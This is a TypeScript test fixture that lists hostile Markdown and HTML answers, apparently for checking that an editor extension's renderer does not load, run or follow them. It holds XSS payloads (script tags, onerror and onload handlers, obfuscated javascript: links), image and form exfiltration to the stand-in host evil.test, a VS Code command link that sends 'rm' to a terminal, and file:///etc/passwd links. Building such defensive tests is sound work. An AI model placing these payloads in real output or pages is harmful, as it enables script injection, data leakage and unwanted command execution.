/** What may an answer hold that would load, run or lead somewhere, if it were let? Name and Markdown of each. */

export const hostileAnswers: readonly (readonly [string, string])[] = [
  ['a Markdown image', '![x](https://evil.test/p.png?secret=1)'],
  ['a reference image', '![x][i]\n\n[i]: https://evil.test/p.png'],
  ['an image in a link', '[![x](https://evil.test/p.png)](https://evil.test/)'],
  ['an image as data', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['an HTML image', '<img src="https://evil.test/p.png" onerror="alert(1)">'],
  ['a script', '<script>alert(1)</script>'],
  ['a script in a table', '| a |\n|---|\n| <script>alert(1)</script> |'],
  ['an SVG', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>'],
  ['a frame', '<iframe src="https://evil.test" srcdoc="<script>alert(1)</script>"></iframe>'],
  [
    'a style',
    '<style>@import url(https://evil.test/x.css)</style><div style="background:url(https://evil.test)">x</div>',
  ],
  ['a form', '<form action="https://evil.test"><input name=x><button>Send</button></form>'],
  ['a base', '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">'],
  ['a script link', '[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](&#106;avascript:alert(1))'],
  ['a data link', '[x](data:text/html,<script>alert(1)</script>)'],
  ['a command link', '[x](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D)'],
  ['an editor link', '[x](vscode://tandem.tandem-code/approve) <vscode:extension/evil.evil>'],
  ['a file link', '[x](file:///etc/passwd) [y](\\\\evil\\share)'],
  ['an automatic link', '<https://evil.test/?q=1> and https://evil.test/?q=2'],
  ['a link with a title', '[x](https://evil.test "onmouseover=alert(1)")'],
  ['a fence whose name is HTML', '```"><img src=x onerror=alert(1)>\ncode\n```'],
  ['code that holds HTML', '```html\n<img src=x onerror=alert(1)><script>alert(1)</script>\n```'],
  [
    'a language that highlights HTML',
    '```xml\n<a href="javascript:alert(1)">&lt;span class="x"&gt;</a>\n```',
  ],
  ['an unclosed everything', '<div><p>**a _b `c [d](https://evil.test ![e](https://evil.test'],
];
